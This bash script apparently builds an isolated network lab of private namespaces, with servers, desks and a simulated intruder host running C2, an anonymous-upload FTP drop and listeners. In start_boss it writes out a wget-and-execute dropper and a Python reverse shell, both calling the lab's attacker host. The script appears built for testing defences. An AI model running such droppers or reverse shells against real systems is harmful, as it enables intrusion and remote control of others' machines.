# A harbour: servers, desks and the outside each on a network of their own, all of them private. Sourced after ../network.sh, whose functions it uses; needs root.
# shellcheck shell=bash
#
#   outside hosts ─── br-out     nh-harbour-gw  br-srv ── servers  10.88.4.0/24
#   172.31.7.0/24 (records)                     br-off ── desks    192.168.40.0/24

LAB_NS=${HARBOUR_NS:-nh-harbour}

outside() { host "$1" gw br-out "02:00:5e:00:4c:$2" "${@:3}"; }
server() { host "$1" gw br-srv "02:00:5e:00:4d:$2" "${@:3}"; }
office() { host "$1" gw br-off "02:00:5e:00:4e:$2" "${@:3}"; }

harbour_up() {
    lab_begin HARBOUR_NS
    router gw
    zone br-out 02:00:5e:00:4c:01 172.31.7.1/24
    zone br-srv 02:00:5e:00:4d:01 10.88.4.1/24
    zone br-off 02:00:5e:00:4e:01 192.168.40.1/24
    ns gw ip route add default via 172.31.7.5
    server web 0a 10.88.4.10/24; server ssh 0c 10.88.4.12/24; server dns 0d 10.88.4.13/24; server files 0e 10.88.4.14/24
    office desk 51 192.168.40.31/24; office desk2 52 192.168.40.32/24; office rogue 4d 192.168.40.66/24
    outside site 05 172.31.7.5/24; outside c1 f1 172.31.7.141/24; outside nat f2 172.31.7.142/24; outside probe f3 172.31.7.143/24
    outside bad 2d 172.31.7.77/24; outside bad2 2e 172.31.7.78/24
    outside boss 46 172.31.7.200/24; outside master 47 172.31.7.201/24; outside resolver 49 172.31.7.203/24
    every_host sysctl -q -w net.ipv4.icmp_ratelimit=0
}

# What intruders keep outside: a page that gives orders and takes what is sent, doors for files, sinks; and inside a second web server that speaks HTTP/2.
start_boss() {
    local d=$LAB_DIR port
    sed "s/listen 80; listen \[::\]:80; listen 443 ssl; listen \[::\]:443 ssl;/listen 8443 ssl http2;/; s#/run/nginx.pid#/run/nginx2.pid#" "$d/web-nginx.conf" >"$d/web2-nginx.conf"
    sandboxed web nginx -c "$d/web2-nginx.conf"
    start_sshd boss
    ns_start boss python3 "$LAB_HOME/tools/master.py" "$d/c2.crt" "$d/c2.key"
    mkdir -p "$d/serve" "$d/drop/up"; chmod 777 "$d/drop/up"; chmod 755 "$d"
    cp /bin/ls "$d/serve/x86"
    printf '#!/bin/sh\ncd /tmp; wget http://172.31.7.200:8000/x86 -O .x; chmod +x .x; ./.x; rm -f .x\n' >"$d/serve/x.sh"; chmod -R a+rX "$d/serve"
    printf 'import socket,subprocess,os\ns=socket.socket()\ns.connect(("172.31.7.200",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(["/bin/sh","-i"])\n' >"$d/serve/a.py"; chmod a+r "$d/serve/a.py"
    ns_start boss python3 "$LAB_HOME/tools/serve_files.py" "$d/serve" 172.31.7.200 8000
    printf 'listen=YES\nanonymous_enable=YES\nwrite_enable=YES\nanon_upload_enable=YES\nanon_root=%s\nsecure_chroot_dir=/run/empty\nbackground=NO\nseccomp_sandbox=NO\n' "$d/drop" >"$d/drop.conf"
    sandboxed boss sh -c 'mkdir -p /run/empty && exec vsftpd "$1"' sh "$d/drop.conf"
    for port in 9001 9443; do ns_start boss socat -u TCP-LISTEN:$port,fork,reuseaddr /dev/null; done
    ns_start boss python3 "$LAB_HOME/harbour/attacks.py" orders 7000
    ns_start boss python3 "$LAB_HOME/harbour/attacks.py" udp_orders 7001
}
